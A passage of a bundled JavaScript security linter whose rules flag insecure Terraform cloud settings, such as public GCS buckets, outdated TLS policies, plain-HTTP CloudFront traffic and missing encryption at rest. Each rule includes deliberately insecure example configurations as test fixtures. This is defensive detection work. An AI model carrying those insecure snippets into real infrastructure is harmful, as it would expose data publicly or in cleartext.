    if (typeof predefined === "string" && PUBLIC_PREDEFINED_ACLS.has(predefined)) {
      report({ at: ["predefined_acl"], message: `ACL ${acl.name} makes data public (predefined_acl = "${predefined}")` });
      return;
    }
    if (!Array.isArray(attributes.role_entity)) return;
    attributes.role_entity.forEach((roleEntity, index) => {
      const entity = entityOf(roleEntity);
      if (isPublicMember(entity)) report({ at: ["role_entity", index], message: `ACL ${acl.name} makes data public: ${String(roleEntity)}` });
    });
  },
  examples: {
    valid: [
      {
        filename: "main.tf",
        code: `resource "google_storage_bucket_acl" "builds" {
  bucket         = google_storage_bucket.builds.name
  predefined_acl = "projectPrivate"
}
`
      }
    ],
    invalid: [
      {
        filename: "main.tf",
        code: `resource "google_storage_bucket_acl" "builds" {
  bucket         = google_storage_bucket.builds.name
  predefined_acl = "publicRead"
}
`,
        errors: [{ line: 3, column: 3 }]
      },
      {
        name: "role entities",
        filename: "main.tf",
        code: `resource "google_storage_default_object_acl" "builds" {
  bucket      = google_storage_bucket.builds.name
  role_entity = [
    "OWNER:project-owners-123456789",
    "READER:allUsers",
  ]
}
`,
        errors: [{ line: 5, column: 5 }]
      }
    ]
  }
});

// packages/rules/src/terraform/iam/gcp-storage-bucket-public-iam.ts
var gcp_storage_bucket_public_iam_default = defineRule({
  meta: {
    id: "gcp-storage-bucket-public-iam",
    title: "Cloud Storage bucket IAM grants access to allUsers or allAuthenticatedUsers (public bucket)",
    severity: "critical",
    category: "iam",
    platforms: ["terraform"],
    resourceTypes: ["google_storage_bucket_iam_binding", "google_storage_bucket_iam_member", "google_storage_bucket_iam_policy"],
    description: "A bucket IAM grant to `allUsers` makes the bucket's objects publicly accessible to anyone on the internet, without authentication; `allAuthenticatedUsers` means anyone with any Google account, which is no narrower in practice. Public buckets are a leading cause of cloud data leaks.",
    remediation: "Remove `allUsers` and `allAuthenticatedUsers` from the bucket's IAM and grant roles to specific users, groups or service accounts; serve intentionally public content through a load balancer with Cloud CDN or signed URLs.",
    precision: "very-high",
    cwe: ["CWE-284", "CWE-200"],
    frameworks: { "CIS Google Cloud Platform Foundation 2.0": ["5.1"] },
    tags: ["gcp", "cloud-storage", "public-access", "allUsers"],
    references: [
      "https://cloud.google.com/storage/docs/access-control/making-data-public",
      "https://registry.terraform.io/providers/hashicorp/google/latest/docs/resources/storage_bucket_iam"
    ]
  },
  check(grant, { report }) {
    const attributes = grant.attributes;
    const role = typeof attributes.role === "string" ? attributes.role : "a role";
    const message = (member, what = role) => `Bucket IAM ${grant.name} makes the bucket public: ${what} granted to ${member}`;
    if (grant.type === "google_storage_bucket_iam_member") {
      if (isPublicMember(attributes.member)) report({ at: ["member"], message: message(attributes.member) });
      return;
    }
    if (grant.type === "google_storage_bucket_iam_binding") {
      if (!Array.isArray(attributes.members)) return;
      attributes.members.forEach((member, index) => {
        if (isPublicMember(member)) report({ at: ["members", index], message: message(member) });
      });
      return;
    }
    if (typeof attributes.policy_data !== "string") return;
    let policy;
    try {
      policy = JSON.parse(attributes.policy_data);
    } catch {
      return;
    }
    const bindings = typeof policy === "object" && policy !== null ? policy.bindings : void 0;
    if (!Array.isArray(bindings)) return;
    const publicGrants2 = bindings.flatMap(
      (binding) => Array.isArray(binding?.members) ? binding.members.filter((member) => isPublicMember(member)).map((member) => `${String(binding.role)} to ${String(member)}`) : []
    );
    if (publicGrants2.length > 0) report({ at: ["policy_data"], message: `Bucket IAM policy ${grant.name} makes the bucket public: ${publicGrants2.join(", ")}` });
  },
  examples: {
    valid: [
      {
        filename: "main.tf",
        code: `resource "google_storage_bucket_iam_member" "reader" {
  bucket = google_storage_bucket.reports.name
  role   = "roles/storage.objectViewer"
  member = "group:analysts@example.com"
}
`
      }
    ],
    invalid: [
      {
        filename: "main.tf",
        code: `resource "google_storage_bucket_iam_binding" "public_read" {
  bucket  = google_storage_bucket.reports.name
  role    = "roles/storage.objectViewer"
  members = ["group:analysts@example.com", "allUsers"]
}
`,
        errors: [{ line: 4, column: 44, messageIncludes: "allUsers" }]
      },
      {
        filename: "main.tf",
        code: `resource "google_storage_bucket_iam_member" "any_google_account" {
  bucket = google_storage_bucket.reports.name
  role   = "roles/storage.objectViewer"
  member = "allAuthenticatedUsers"
}
`,
        errors: [{ line: 4, column: 3 }]
      }
    ]
  }
});

// packages/rules/src/terraform/iam/gcp-storage-bucket-uniform-access.ts
var gcp_storage_bucket_uniform_access_default = defineRule({
  meta: {
    id: "gcp-storage-bucket-uniform-access",
    title: "Cloud Storage bucket without uniform bucket-level access",
    severity: "medium",
    category: "iam",
    platforms: ["terraform"],
    resourceTypes: ["google_storage_bucket"],
    description: "Without uniform bucket-level access, every object can carry its own ACL on top of the bucket's IAM policy. Access then cannot be reviewed in one place, and a single object ACL granting `allUsers` makes that object public without any change to the bucket's IAM.",
    remediation: "Set `uniform_bucket_level_access = true` and grant access only through IAM on the bucket.",
    precision: "very-high",
    cwe: ["CWE-732"],
    frameworks: { "CIS Google Cloud Platform Foundation 2.0": ["5.2"] },
    tags: ["gcp", "cloud-storage", "uniform-bucket-level-access", "acl"],
    references: [
      "https://cloud.google.com/storage/docs/uniform-bucket-level-access",
      "https://registry.terraform.io/providers/hashicorp/google/latest/docs/resources/storage_bucket#uniform_bucket_level_access"
    ]
  },
  check(bucket, { report }) {
    const uniform = bucket.attributes.uniform_bucket_level_access;
    const legacy = bucket.attributes.bucket_policy_only;
    if (uniform === true || legacy === true || isUnknown(uniform) || isUnknown(legacy)) return;
    if (uniform === false) report({ at: ["uniform_bucket_level_access"], message: `Bucket ${bucket.name} has uniform bucket-level access disabled: object ACLs apply` });
    else report({ message: `Bucket ${bucket.name} does not enable uniform bucket-level access: object ACLs apply` });
  },
  examples: {
    valid: [
      {
        filename: "main.tf",
        code: `resource "google_storage_bucket" "exports" {
  name                        = "acme-exports"
  location                    = "EU"
  uniform_bucket_level_access = true
}
`
      }
    ],
    invalid: [
      {
        filename: "main.tf",
        code: `resource "google_storage_bucket" "exports" {
  name     = "acme-exports"
  location = "EU"
}
`,
        errors: [{ line: 1, column: 1 }]
      },
      {
        filename: "main.tf",
        code: `resource "google_storage_bucket" "exports" {
  name                        = "acme-exports"
  location                    = "EU"
  uniform_bucket_level_access = false
}
`,
        errors: [{ line: 4, column: 3 }]
      }
    ]
  }
});

// packages/rules/src/terraform/encryption/aws-api-gateway-domain-outdated-tls.ts
var aws_api_gateway_domain_outdated_tls_default = defineRule({
  meta: {
    id: "aws-api-gateway-domain-outdated-tls",
    title: "API Gateway custom domain accepts TLS 1.0",
    severity: "medium",
    category: "encryption",
    platforms: ["terraform"],
    resourceTypes: ["aws_api_gateway_domain_name"],
    description: '`security_policy = "TLS_1_0"` lets clients call the API over TLS 1.0 and 1.1, deprecated protocol versions (RFC 8996) with weak cipher suites.',
    remediation: 'Set `security_policy = "TLS_1_2"` (or a newer TLS 1.3 policy).',
    precision: "very-high",
    cwe: ["CWE-327"],
    tags: ["api-gateway", "encryption-in-transit", "tls"],
    references: [
      "https://docs.aws.amazon.com/apigateway/latest/developerguide/apigateway-custom-domain-tls-version.html",
      "https://registry.terraform.io/providers/hashicorp/aws/latest/docs/resources/api_gateway_domain_name#security_policy"
    ]
  },
  check(domain, { report }) {
    const policy = domain.attributes.security_policy;
    if (typeof policy === "string" && policy.toUpperCase() === "TLS_1_0") {
      report({ at: ["security_policy"], message: `API Gateway domain ${domain.name} accepts TLS 1.0 (security_policy = "TLS_1_0")` });
    }
  },
  examples: {
    valid: [
      {
        filename: "main.tf",
        code: `resource "aws_api_gateway_domain_name" "api" {
  domain_name              = "api.example.com"
  regional_certificate_arn = aws_acm_certificate.api.arn
  security_policy          = "TLS_1_2"
}
`
      }
    ],
    invalid: [
      {
        filename: "main.tf",
        code: `resource "aws_api_gateway_domain_name" "api" {
  domain_name     = "api.example.com"
  certificate_arn = aws_acm_certificate.api.arn
  security_policy = "TLS_1_0"
}
`,
        errors: [{ line: 4, column: 3 }]
      }
    ]
  }
});

// packages/rules/src/terraform/encryption/aws-athena-workgroup-encryption-at-rest.ts
var aws_athena_workgroup_encryption_at_rest_default = defineRule({
  meta: {
    id: "aws-athena-workgroup-encryption-at-rest",
    title: "Athena workgroup query results not encrypted at rest",
    severity: "medium",
    category: "encryption",
    platforms: ["terraform"],
    resourceTypes: ["aws_athena_workgroup"],
    description: "The workgroup writes query results to S3 without an `encryption_configuration`, so result files, which hold whatever the queries selected, rely on the bucket's settings alone.",
    remediation: 'Add `configuration { result_configuration { encryption_configuration { encryption_option = "SSE_KMS" kms_key_arn = … } } }` and set `enforce_workgroup_configuration = true` so clients cannot override it.',
    precision: "medium",
    cwe: ["CWE-311"],
    tags: ["athena", "encryption-at-rest", "sse"],
    references: [
      "https://docs.aws.amazon.com/athena/latest/ug/encrypting-query-results-stored-in-s3.html",
      "https://registry.terraform.io/providers/hashicorp/aws/latest/docs/resources/athena_workgroup#encryption_configuration"
    ]
  },
  check(workgroup, { report }) {
    const configuration = singleBlock(workgroup.attributes, "configuration");
    if (configuration === "unknown") return;
    const results = configuration ? singleBlock(configuration.block, "result_configuration", configuration.at) : void 0;
    if (results === "unknown") return;
    const encryption = results ? getPath(results.block, ["encryption_configuration"]) : void 0;
    if (isUnknown(encryption)) return;
    if (Array.isArray(encryption) ? encryption.length > 0 : encryption !== void 0 && encryption !== null) return;
    report({ at: results?.at ?? configuration?.at, message: `Athena workgroup ${workgroup.name} does not encrypt query results at rest (no encryption_configuration)` });
  },
  examples: {
    valid: [
      {
        filename: "main.tf",
        code: `resource "aws_athena_workgroup" "analysts" {
  name = "analysts"

  configuration {
    enforce_workgroup_configuration = true

    result_configuration {
      output_location = "s3://example-athena-results/"

      encryption_configuration {
        encryption_option = "SSE_KMS"
        kms_key_arn       = aws_kms_key.athena.arn
      }
    }
  }
}
`
      }
    ],
    invalid: [
      {
        filename: "main.tf",
        code: `resource "aws_athena_workgroup" "analysts" {
  name = "analysts"

  configuration {
    result_configuration {
      output_location = "s3://example-athena-results/"
    }
  }
}
`,
        errors: [{ line: 5, column: 5 }]
      }
    ]
  }
});

// packages/rules/src/terraform/encryption/aws-backup-vault-customer-managed-key.ts
var aws_backup_vault_customer_managed_key_default = defineRule({
  meta: {
    id: "aws-backup-vault-customer-managed-key",
    title: "Backup vault not encrypted with a customer-managed KMS key",
    severity: "low",
    category: "encryption",
    platforms: ["terraform"],
    resourceTypes: ["aws_backup_vault"],
    description: "Without `kms_key_arn` the vault encrypts recovery points with the AWS-managed backup key. Backups are copies of everything worth stealing; a customer-managed key lets a key policy decide who can restore or copy them.",
    remediation: "Set `kms_key_arn` to a customer-managed KMS key when creating the vault (the key cannot be changed afterwards).",
    precision: "medium",
    cwe: ["CWE-311"],
    tags: ["backup", "kms", "encryption-at-rest"],
    references: [
      "https://docs.aws.amazon.com/aws-backup/latest/devguide/encryption.html",
      "https://registry.terraform.io/providers/hashicorp/aws/latest/docs/resources/backup_vault#kms_key_arn"
    ]
  },
  check(vault, { report }) {
    const key = vault.attributes.kms_key_arn;
    if (isUnknown(key) || !isUnset(key)) return;
    report({ message: `Backup vault ${vault.name} has no kms_key_arn: recovery points are not encrypted with a customer-managed key` });
  },
  examples: {
    valid: [
      {
        filename: "main.tf",
        code: `resource "aws_backup_vault" "daily" {
  name        = "daily"
  kms_key_arn = aws_kms_key.backup.arn
}
`
      }
    ],
    invalid: [
      {
        filename: "main.tf",
        code: `resource "aws_backup_vault" "daily" {
  name = "daily"
}
`,
        errors: [{ line: 1, column: 1 }]
      }
    ]
  }
});

// packages/rules/src/terraform/encryption/aws-cloudfront-origin-http.ts
var aws_cloudfront_origin_http_default = defineRule({
  meta: {
    id: "aws-cloudfront-origin-http",
    title: "CloudFront fetches from a custom origin over plain HTTP (no TLS)",
    severity: "medium",
    category: "encryption",
    platforms: ["terraform"],
    resourceTypes: ["aws_cloudfront_distribution"],
    description: '`origin_protocol_policy = "http-only"` makes CloudFront reach the origin without TLS, so requests (with their cookies and authorization headers) and responses cross the internet unencrypted between the edge and the origin, even when viewers use HTTPS. S3 website endpoints, which only speak HTTP, are not reported.',
    remediation: 'Serve the origin over HTTPS and set `origin_protocol_policy = "https-only"` with `origin_ssl_protocols = ["TLSv1.2"]`.',
    precision: "high",
    cwe: ["CWE-319"],
    tags: ["cloudfront", "encryption-in-transit", "http"],
    references: [
      "https://docs.aws.amazon.com/AmazonCloudFront/latest/DeveloperGuide/using-https-cloudfront-to-custom-origin.html",
      "https://registry.terraform.io/providers/hashicorp/aws/latest/docs/resources/cloudfront_distribution#origin_protocol_policy"
    ]
  },
  check(distribution, { report }) {
    for (const origin of blocksOf(distribution.attributes, "origin") ?? []) {
      const domain = origin.block.domain_name;
      if (typeof domain === "string" && domain.includes(".s3-website")) continue;
      for (const { block, at } of blocksOf(origin.block, "custom_origin_config", origin.at) ?? []) {
        if (block.origin_protocol_policy !== "http-only") continue;
        report({ at: [...at, "origin_protocol_policy"], message: `CloudFront distribution ${distribution.name} reaches origin ${String(origin.block.origin_id)} over plain HTTP without TLS (origin_protocol_policy = "http-only")` });
      }
    }
  },
  examples: {
    valid: [
      {
        filename: "main.tf",
        code: `resource "aws_cloudfront_distribution" "api" {
  enabled = true

  origin {
    origin_id   = "api"
    domain_name = "api.example.com"

    custom_origin_config {
      http_port              = 80
      https_port             = 443
      origin_protocol_policy = "https-only"
      origin_ssl_protocols   = ["TLSv1.2"]
    }
  }
}
`
      }
    ],
    invalid: [
      {
        filename: "main.tf",
        code: `resource "aws_cloudfront_distribution" "api" {
  enabled = true

  origin {
    origin_id   = "api"
    domain_name = aws_lb.api.dns_name

    custom_origin_config {
      http_port              = 80
      https_port             = 443
      origin_protocol_policy = "http-only"
      origin_ssl_protocols   = ["TLSv1.2"]
    }
  }
}
`,
        errors: [{ line: 11, column: 7 }]
      }
    ]
  }
});

// packages/rules/src/support/tls-policies.ts
var OUTDATED_ELB_POLICIES = /* @__PURE__ */ new Set([
  "ELBSecurityPolicy-2016-08",
  "ELBSecurityPolicy-2015-05",
  "ELBSecurityPolicy-2015-03",
  "ELBSecurityPolicy-2015-02",
  "ELBSecurityPolicy-2014-10",
  "ELBSecurityPolicy-2014-01",
  "ELBSecurityPolicy-2011-08",
  "ELBSecurityPolicy-FS-2018-06",
  "ELBSecurityPolicy-FS-1-1-2019-08",
  "ELBSample-ELBDefaultCipherPolicy",
  "ELBSample-OpenSSLDefaultCipherPolicy"
]);
var OUTDATED_ELB_POLICY_PATTERN = /^ELBSecurityPolicy-(TLS13-)?(TLS-)?1-[01]-/i;
function isOutdatedElbPolicy(policy) {
  if (typeof policy !== "string") return false;
  return OUTDATED_ELB_POLICIES.has(policy) || OUTDATED_ELB_POLICY_PATTERN.test(policy);
}
var OUTDATED_CLOUDFRONT_PROTOCOLS = /* @__PURE__ */ new Set(["SSLv3", "TLSv1", "TLSv1_2016", "TLSv1.1_2016"]);
function isOutdatedCloudFrontProtocol(version) {
  return typeof version === "string" && OUTDATED_CLOUDFRONT_PROTOCOLS.has(version);
}
var OPENSEARCH_TLS_1_0_POLICY = "Policy-Min-TLS-1-0-2019-07";

// packages/rules/src/terraform/encryption/aws-cloudfront-outdated-tls-version.ts
var aws_cloudfront_outdated_tls_version_default = defineRule({
  meta: {
    id: "aws-cloudfront-outdated-tls-version",
    title: "CloudFront distribution accepts TLS versions below 1.2",
    severity: "medium",
    category: "encryption",
    platforms: ["terraform"],
    resourceTypes: ["aws_cloudfront_distribution"],
    description: "The viewer certificate's `minimum_protocol_version` lets viewers connect with SSLv3, TLS 1.0 or TLS 1.1, which are deprecated (RFC 8996) and open to downgrade attacks.",
    remediation: 'Set `minimum_protocol_version = "TLSv1.2_2021"` in `viewer_certificate` (this needs a custom certificate from ACM).',
    precision: "very-high",
    cwe: ["CWE-327"],
    tags: ["cloudfront", "encryption-in-transit", "tls"],
    references: [
      "https://docs.aws.amazon.com/AmazonCloudFront/latest/DeveloperGuide/secure-connections-supported-viewer-protocols-ciphers.html",
      "https://registry.terraform.io/providers/hashicorp/aws/latest/docs/resources/cloudfront_distribution#minimum_protocol_version"
    ]
  },
  check(distribution, { report }) {
    const certificate = singleBlock(distribution.attributes, "viewer_certificate");
    if (!certificate || certificate === "unknown") return;
    if (isTrue(certificate.block.cloudfront_default_certificate)) return;
    const version = certificate.block.minimum_protocol_version;
    if (isOutdatedCloudFrontProtocol(version)) {
      report({ at: [...certificate.at, "minimum_protocol_version"], message: `CloudFront distribution ${distribution.name} accepts viewers on outdated TLS/SSL (minimum_protocol_version = "${version}")` });
    }
  },
  examples: {
    valid: [
      {
        filename: "main.tf",
        code: `resource "aws_cloudfront_distribution" "site" {
  enabled = true

  viewer_certificate {
    acm_certificate_arn      = aws_acm_certificate.site.arn
    ssl_support_method       = "sni-only"
    minimum_protocol_version = "TLSv1.2_2021"
  }
}
`
      }
    ],
    invalid: [
      {
        filename: "main.tf",
        code: `resource "aws_cloudfront_distribution" "site" {
  enabled = true

  viewer_certificate {
    acm_certificate_arn      = aws_acm_certificate.site.arn
    ssl_support_method       = "sni-only"
    minimum_protocol_version = "TLSv1_2016"
  }
}
`,
        errors: [{ line: 7, column: 5 }]
      }
    ]
  }
});

// packages/rules/src/terraform/encryption/aws-cloudfront-viewer-protocol-allow-all.ts
var aws_cloudfront_viewer_protocol_allow_all_default = defineRule({
  meta: {
    id: "aws-cloudfront-viewer-protocol-allow-all",
    title: "CloudFront cache behavior allows HTTP (viewer protocol policy allow-all)",
    severity: "medium",
    category: "encryption",
    platforms: ["terraform"],
    resourceTypes: ["aws_cloudfront_distribution"],
    description: 'With `viewer_protocol_policy = "allow-all"` viewers can fetch the content over plain HTTP, without TLS: responses and cookies can be read or rewritten by anyone on the path, and users are never moved to HTTPS.',
    remediation: 'Set `viewer_protocol_policy = "redirect-to-https"` (or `"https-only"`) on the default and every ordered cache behavior.',
    precision: "very-high",
    cwe: ["CWE-319"],
    tags: ["cloudfront", "encryption-in-transit", "https"],
    references: [
      "https://docs.aws.amazon.com/AmazonCloudFront/latest/DeveloperGuide/using-https-viewers-to-cloudfront.html",
      "https://registry.terraform.io/providers/hashicorp/aws/latest/docs/resources/cloudfront_distribution#viewer_protocol_policy"
    ]
  },
  check(distribution, { report }) {
    for (const key of ["default_cache_behavior", "ordered_cache_behavior"]) {
      for (const { block, at } of blocksOf(distribution.attributes, key) ?? []) {
        if (block.viewer_protocol_policy !== "allow-all") continue;
        const pattern = typeof block.path_pattern === "string" ? ` for ${block.path_pattern}` : "";
        report({ at: [...at, "viewer_protocol_policy"], message: `CloudFront distribution ${distribution.name} serves viewers over plain HTTP${pattern} (viewer_protocol_policy = "allow-all")` });
      }
    }
  },
  examples: {
    valid: [
      {
        filename: "main.tf",
        code: `resource "aws_cloudfront_distribution" "site" {
  enabled = true

  default_cache_behavior {
    target_origin_id       = "site"
    allowed_methods        = ["GET", "HEAD"]
    cached_methods         = ["GET", "HEAD"]
    viewer_protocol_policy = "redirect-to-https"
  }
}
`
      }
    ],
    invalid: [
      {
        filename: "main.tf",
        code: `resource "aws_cloudfront_distribution" "site" {
  enabled = true

  default_cache_behavior {
    target_origin_id       = "site"
    allowed_methods        = ["GET", "HEAD"]
    cached_methods         = ["GET", "HEAD"]
    viewer_protocol_policy = "allow-all"
  }

  ordered_cache_behavior {
    path_pattern           = "/assets/*"
    target_origin_id       = "site"
    allowed_methods        = ["GET", "HEAD"]
    cached_methods         = ["GET", "HEAD"]
    viewer_protocol_policy = "allow-all"
  }
}
`,
        errors: [
          { line: 8, column: 5 },
          { line: 16, column: 5, messageIncludes: "/assets/*" }
        ]
      }
    ]
  }
});

// packages/rules/src/terraform/encryption/aws-cloudtrail-customer-managed-key.ts
var aws_cloudtrail_customer_managed_key_default = defineRule({
  meta: {
    id: "aws-cloudtrail-customer-managed-key",
    title: "CloudTrail logs not encrypted with a customer-managed KMS key",
    severity: "low",
    category: "encryption",
    platforms: ["terraform"],
    resourceTypes: ["aws_cloudtrail"],
    description: "Without `kms_key_id` CloudTrail log files are protected only by the bucket's S3-managed encryption, so anyone allowed to read the bucket reads the account's whole API history. SSE-KMS with your own key adds a second, separately audited permission (`kms:Decrypt`) in front of the logs.",
    remediation: "Create a KMS key whose policy lets CloudTrail encrypt and your auditors decrypt, and set `kms_key_id` to its ARN.",
    precision: "very-high",
    cwe: ["CWE-311"],
    frameworks: { "CIS AWS 1.4.0": ["3.7"] },
    tags: ["aws", "cloudtrail", "kms", "encryption-at-rest", "audit"],
    references: [
      "https://docs.aws.amazon.com/awscloudtrail/latest/userguide/encrypting-cloudtrail-log-files-with-aws-kms.html",
      "https://registry.terraform.io/providers/hashicorp/aws/latest/docs/resources/cloudtrail#kms_key_id"
    ]
  },
  check(trail, { report }) {
    const key = trail.attributes.kms_key_id;
    if (isUnknown(key) || !isUnset(key)) return;
    report({ message: `CloudTrail trail ${trail.name} does not encrypt its log files with a customer-managed KMS key (kms_key_id is not set)` });
  },
  examples: {
    valid: [
      {
        filename: "main.tf",
        code: `resource "aws_cloudtrail" "account" {
  name                       = "account-trail"
  s3_bucket_name             = aws_s3_bucket.audit.id
  is_multi_region_trail      = true
  enable_log_file_validation = true
  kms_key_id                 = aws_kms_key.audit.arn
}
`
      }
    ],
    invalid: [
      {
        filename: "main.tf",
        code: `resource "aws_cloudtrail" "account" {
  name                       = "account-trail"
  s3_bucket_name             = aws_s3_bucket.audit.id
  is_multi_region_trail      = true
  enable_log_file_validation = true
}
`,
        errors: [{ line: 1, column: 1, messageIncludes: "KMS" }]
      }
    ]
  }
});

// packages/rules/src/terraform/encryption/aws-cloudwatch-log-group-customer-managed-key.ts
var aws_cloudwatch_log_group_customer_managed_key_default = defineRule({
  meta: {
    id: "aws-cloudwatch-log-group-customer-managed-key",
    title: "CloudWatch log group not encrypted with a customer-managed KMS key",
    severity: "low",
    category: "encryption",
    platforms: ["terraform"],
    resourceTypes: ["aws_cloudwatch_log_group"],
    description: "CloudWatch Logs always encrypts log data, but without `kms_key_id` it uses a service key that anyone with log read permissions can use. Logs often carry tokens, personal data and request payloads; a customer-managed key adds a key policy and an audit trail around reading them.",
    remediation: "Set `kms_key_id` to a customer-managed KMS key whose key policy allows the `logs.<region>.amazonaws.com` service principal.",
    precision: "medium",
    cwe: ["CWE-311"],
    tags: ["cloudwatch", "logs", "kms", "encryption-at-rest"],
    references: [
      "https://docs.aws.amazon.com/AmazonCloudWatch/latest/logs/encrypt-log-data-kms.html",
      "https://registry.terraform.io/providers/hashicorp/aws/latest/docs/resources/cloudwatch_log_group#kms_key_id"
    ]
  },
  check(group, { report }) {
    const key = group.attributes.kms_key_id;
    if (isUnknown(key) || !isUnset(key)) return;
    report({ message: `CloudWatch log group ${group.name} is not encrypted with a customer-managed KMS key (no kms_key_id)` });
  },
  examples: {
    valid: [
      {
        filename: "main.tf",
        code: `resource "aws_cloudwatch_log_group" "api" {
  name              = "/ecs/api"
  retention_in_days = 90
  kms_key_id        = aws_kms_key.logs.arn
}
`
      }
    ],
    invalid: [
      {
        filename: "main.tf",
        code: `resource "aws_cloudwatch_log_group" "api" {
  name              = "/ecs/api"
  retention_in_days = 90
}
`,
        errors: [{ line: 1, column: 1 }]
      }
    ]
  }
});

// packages/rules/src/terraform/encryption/aws-dax-encryption-at-rest.ts
var aws_dax_encryption_at_rest_default = defineRule({
  meta: {
    id: "aws-dax-encryption-at-rest",
    title: "DynamoDB Accelerator (DAX) cluster not encrypted at rest",
    severity: "medium",
    category: "encryption",
    platforms: ["terraform"],
    resourceTypes: ["aws_dax_cluster"],
    description: "Without server-side encryption the DAX cluster keeps its cached DynamoDB items and logs unencrypted on its nodes' disks, even when the tables behind it are encrypted. The setting is fixed when the cluster is created.",
    remediation: "Add `server_side_encryption { enabled = true }` and recreate the cluster.",
    precision: "very-high",
    cwe: ["CWE-311"],
    tags: ["dax", "dynamodb", "encryption-at-rest"],
    references: [
      "https://docs.aws.amazon.com/amazondynamodb/latest/developerguide/DAXEncryptionAtRest.html",
      "https://registry.terraform.io/providers/hashicorp/aws/latest/docs/resources/dax_cluster#server_side_encryption"
    ]
  },
  check(cluster, { report }) {
    const sse = singleBlock(cluster.attributes, "server_side_encryption");
    if (sse === "unknown") return;
    if (!sse) {
      report({ message: `DAX cluster ${cluster.name} has no server_side_encryption block, so its cache is not encrypted at rest` });
      return;
    }
    const enabled = sse.block.enabled;
    if (isTrue(enabled) || enabled !== false && enabled !== "false" && enabled !== void 0 && enabled !== null) return;
    report({ at: enabled === void 0 || enabled === null ? sse.at : [...sse.at, "enabled"], message: `DAX cluster ${cluster.name} is not encrypted at rest (server-side encryption disabled)` });
  },
  examples: {
    valid: [
      {
        filename: "main.tf",
        code: `resource "aws_dax_cluster" "catalog" {
  cluster_name       = "catalog"
  iam_role_arn       = aws_iam_role.dax.arn
  node_type          = "dax.r5.large"
  replication_factor = 3

  server_side_encryption {
    enabled = true
  }
}
`
      }
    ],
    invalid: [
      {
        filename: "main.tf",
        code: `resource "aws_dax_cluster" "catalog" {
  cluster_name       = "catalog"
  iam_role_arn       = aws_iam_role.dax.arn
  node_type          = "dax.r5.large"
  replication_factor = 3
}
`,
        errors: [{ line: 1, column: 1 }]
      },
      {
        name: "disabled",
        filename: "main.tf",
        code: `resource "aws_dax_cluster" "catalog" {
  cluster_name       = "catalog"
  iam_role_arn       = aws_iam_role.dax.arn
  node_type          = "dax.r5.large"
  replication_factor = 1

  server_side_encryption {
    enabled = false
  }
}
`,
        errors: [{ line: 8, column: 5 }]
      }
    ]
  }
});

// packages/rules/src/terraform/encryption/aws-docdb-encryption-at-rest.ts
var aws_docdb_encryption_at_rest_default = defineRule({
  meta: {
    id: "aws-docdb-encryption-at-rest",
    title: "DocumentDB cluster storage not encrypted at rest",
    severity: "high",
    category: "encryption",
    platforms: ["terraform"],
    resourceTypes: ["aws_docdb_cluster"],
    description: "The DocumentDB cluster's storage, automated backups and snapshots are unencrypted. The setting cannot be changed on an existing cluster; the data has to be moved to a new encrypted one.",
    remediation: "Set `storage_encrypted = true` and `kms_key_id` to a customer-managed KMS key when creating the cluster.",
    precision: "very-high",
    cwe: ["CWE-311"],
    tags: ["documentdb", "encryption-at-rest"],
    references: [
      "https://docs.aws.amazon.com/documentdb/latest/developerguide/encryption-at-rest.html",
      "https://registry.terraform.io/providers/hashicorp/aws/latest/docs/resources/docdb_cluster#storage_encrypted"
    ]
  },
  check(cluster, { report }) {
    const attributes = cluster.attributes;
    const encrypted = attributes.storage_encrypted;
    if (isTrue(encrypted) || isUnknown(encrypted)) return;
    if (isFalse(encrypted)) {
      report({ at: ["storage_encrypted"], message: `DocumentDB cluster ${cluster.name} is not encrypted at rest (storage_encrypted = false)` });
      return;
    }
    const inherits = ["snapshot_identifier", "global_cluster_identifier", "kms_key_id", "restore_to_point_in_time"].some((key) => !isUnset(attributes[key]));
    if (!inherits) report({ message: `DocumentDB cluster ${cluster.name} does not set storage_encrypted = true, so its storage is not encrypted at rest` });
  },
  examples: {
    valid: [
      {
        filename: "main.tf",
        code: `resource "aws_docdb_cluster" "catalog" {
  cluster_identifier = "catalog"
  engine             = "docdb"
  master_username    = "catalog"
  storage_encrypted  = true
}
`
      }
    ],
    invalid: [
      {
        filename: "main.tf",
        code: `resource "aws_docdb_cluster" "catalog" {
  cluster_identifier = "catalog"
  engine             = "docdb"
  master_username    = "catalog"
}
`,
        errors: [{ line: 1, column: 1, messageIncludes: "not encrypted at rest" }]
      }
    ]
  }
});

// packages/rules/src/terraform/encryption/aws-docdb-tls-disabled.ts
var aws_docdb_tls_disabled_default = defineRule({
  meta: {
    id: "aws-docdb-tls-disabled",
    title: "DocumentDB parameter group turns off TLS (encryption in transit)",
    severity: "medium",
    category: "encryption",
    platforms: ["terraform"],
    resourceTypes: ["aws_docdb_cluster_parameter_group"],
    description: "The `tls` parameter is `disabled`, so clusters using this parameter group accept connections without TLS and database credentials and documents travel in clear text inside the VPC.",
    remediation: "Set the `tls` parameter to `enabled` (or a `fips-140-3` / `tls1.2+` value) and reboot the cluster instances.",
    precision: "very-high",
    cwe: ["CWE-319"],
    tags: ["documentdb", "encryption-in-transit", "tls"],
    references: [
      "https://docs.aws.amazon.com/documentdb/latest/developerguide/security.encryption.ssl.html",
      "https://registry.terraform.io/providers/hashicorp/aws/latest/docs/resources/docdb_cluster_parameter_group"
    ]
  },
  check(group, { report }) {
    for (const { block, at } of blocksOf(group.attributes, "parameter") ?? []) {
      if (block.name === "tls" && typeof block.value === "string" && block.value.toLowerCase() === "disabled") {
        report({ at: [...at, "value"], message: `DocumentDB parameter group ${group.name} disables TLS for client connections (tls = "disabled")` });
      }
    }
  },
  examples: {
    valid: [
      {
        filename: "main.tf",
        code: `resource "aws_docdb_cluster_parameter_group" "catalog" {
  family = "docdb5.0"
  name   = "catalog"

  parameter {
    name  = "tls"
    value = "enabled"
  }
}
`
      }
    ],
    invalid: [
      {
        filename: "main.tf",
        code: `resource "aws_docdb_cluster_parameter_group" "catalog" {
  family = "docdb5.0"
  name   = "catalog"

  parameter {
    name  = "tls"
    value = "disabled"
  }
}
`,
        errors: [{ line: 7, column: 5 }]
      }
    ]
  }
});

// packages/rules/src/terraform/encryption/aws-dynamodb-table-customer-managed-key.ts
var aws_dynamodb_table_customer_managed_key_default = defineRule({
  meta: {
    id: "aws-dynamodb-table-customer-managed-key",
    title: "DynamoDB table encrypted only with an AWS-owned key (no KMS key)",
    severity: "low",
    category: "encryption",
    platforms: ["terraform"],
    resourceTypes: ["aws_dynamodb_table"],
    description: "Every DynamoDB table is encrypted at rest, but without `server_side_encryption { enabled = true }` the key is owned by AWS and invisible to the account: its use is not logged in CloudTrail and no key policy can restrict who decrypts the table or its backups.",
